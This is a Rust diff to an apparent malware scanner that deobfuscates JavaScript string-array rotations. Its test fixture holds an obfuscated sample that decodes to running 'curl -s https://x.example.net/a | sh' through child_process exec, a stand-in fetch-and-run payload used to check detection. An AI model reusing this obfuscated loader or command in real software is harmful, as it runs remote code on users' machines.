@@ -337,6 +337,9 @@ pub fn string_table<'a>(program: &'a Program<'a>, scoping: &Scoping, src: &str) 
                 .entry(scoping.symbol_name(*sym).to_string())
                 .or_insert(Callee::Wrapper(params, body));
         }
+        for (name, offset) in raw_accessors(body) {
+            names.insert(name.to_string(), Callee::RawIndex(offset));
+        }
         for dec in known.decoders.values_mut() {
             rotate(dec, checksum, target, &names);
         }
@@ -349,6 +352,9 @@ pub fn string_table<'a>(program: &'a Program<'a>, scoping: &Scoping, src: &str) 
 enum Callee<'a> {
     Decoder,
     Wrapper(Vec<String>, &'a Expression<'a>),
+    /// A rotation loop's own accessor of the raw array (`const g = function (i) { return
+    /// a[i - 0x1a4]; }`): the entry at the index minus this offset, not decoded.
+    RawIndex(f64),
 }
 
 /// A constant of the checksum evaluator.
@@ -653,6 +659,67 @@ fn constant_object<'a>(o: &'a ObjectExpression<'a>) -> Option<Vec<(String, Prop<
         .collect()
 }
 
+/// Accessors a rotation loop declares over the raw array it shifts (`const g = function (i)
+/// { return a[i - 0x1a4]; }`, `(i) => a[i - K]`): each name with its offset. Its checksum
+/// then reads undecoded entries (`parseInt(g(0x1c9))` of `'151498EhWzj'`), a variant of the
+/// obfuscator.io loop that calls the decoder.
+fn raw_accessors<'a>(body: &'a FunctionBody<'a>) -> Vec<(&'a str, f64)> {
+    let mut out = Vec::new();
+    for s in &body.statements {
+        let Statement::VariableDeclaration(d) = s else {
+            continue;
+        };
+        for decl in &d.declarations {
+            let (BindingPattern::BindingIdentifier(id), Some(init)) = (&decl.id, &decl.init) else {
+                continue;
+            };
+            let (params, ret) = match init.without_parentheses() {
+                Expression::FunctionExpression(f) => {
+                    let Some(b) = &f.body else { continue };
+                    (&f.params, single_return(&b.statements))
+                }
+                Expression::ArrowFunctionExpression(a) => match &a.body {
+                    ArrowFunctionBody::FunctionBody(b) => (&a.params, single_return(&b.statements)),
+                    other => (&a.params, other.as_expression()),
+                },
+                _ => continue,
+            };
+            let [param] = params.items.as_slice() else {
+                continue;
+            };
+            let BindingPattern::BindingIdentifier(p) = &param.pattern else {
+                continue;
+            };
+            let Some(Expression::ComputedMemberExpression(m)) =
+                ret.map(|r| r.without_parentheses())
+            else {
+                continue;
+            };
+            let Expression::BinaryExpression(b) = m.expression.without_parentheses() else {
+                continue;
+            };
+            let names_param = matches!(b.left.without_parentheses(), Expression::Identifier(i) if i.name == p.name);
+            let offset = match (b.operator, num(&b.right)) {
+                (BinaryOperator::Subtraction, Some(k)) => k,
+                (BinaryOperator::Addition, Some(k)) => -k,
+                _ => continue,
+            };
+            if names_param && matches!(m.object.without_parentheses(), Expression::Identifier(_)) {
+                out.push((id.name.as_str(), offset));
+            }
+        }
+    }
+    out
+}
+
+/// The expression of a body that is one `return <expression>`.
+fn single_return<'a>(stmts: &'a [Statement<'a>]) -> Option<&'a Expression<'a>> {
+    match stmts {
+        [Statement::ReturnStatement(r)] => r.argument.as_ref(),
+        _ => None,
+    }
+}
+
 /// Replays the rotation on `dec.strings`.
 fn rotate(
     dec: &mut Decoder,
@@ -793,6 +860,16 @@ fn eval(
                         _ => None,
                     };
                     dec.decode(*i, key).map(Lit::Str)
+                }
+                Callee::RawIndex(offset) => {
+                    let Some(Some(Lit::Num(i))) = args.first() else {
+                        return None;
+                    };
+                    let idx = i - offset;
+                    if idx < 0.0 || idx.fract() != 0.0 {
+                        return None;
+                    }
+                    dec.strings.get(idx as usize).cloned().map(Lit::Str)
                 }
                 Callee::Wrapper(params, body) => {
                     let mut b: Vec<(String, Lit)> = binds.to_vec();
@@ -1164,6 +1241,20 @@ mod fixtures {
             };
             assert_eq!(path.unwrap().dest.as_deref(), dest, "{name}");
         }
+    }
+
+    /// A rotation loop whose checksum reads the raw array through its own accessor
+    /// (`g = function (k) { return a[k - 0x100]; }`; `parseInt('1034abc')` is 1034) is
+    /// replayed too; with a target no rotation meets, the array stays as written.
+    #[test]
+    fn rotation_through_a_raw_accessor() {
+        let src = "function _a(){const x=[\"77q\",\"905zz\",\"tail\",\"child_process\",\"1034abc\",\"exec\",\"2211xyz\",\"curl -s https://x.example.net/a | sh\"];_a=function(){return x;};return _a();}\nfunction _d(i){const a=_a();return _d=function(j){j=j-0x100;return a[j];},_d(i);}\n(function(f,t){const a=f(),g=function(k){return a[k-0x100];};while(!![]){try{const v=parseInt(g(0x101))/0x1+-parseInt(g(0x103))/0x2+parseInt(g(0x105))/0x3+-parseInt(g(0x106))/0x4;if(v===t)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(_a,-272.0833333333333));\nrequire(_d(0x100))[_d(0x102)](_d(0x104));\n";
+        let facts = scan_facts(&[("package.json", PJ), ("index.js", src)]);
+        let f = &facts.files[0];
+        assert!(f.has(Kind::ShellPipeExec), "{:?}", f.signals);
+        let wrong = src.replace("-272.0833333333333", "-272.5");
+        let facts = scan_facts(&[("package.json", PJ), ("index.js", &wrong)]);
+        assert!(!facts.files[0].has(Kind::ShellPipeExec));
     }
 
     /// Control-flow flattening with call proxies: `d['wwAdZ'](exec, cmd)` is `exec(cmd)`.
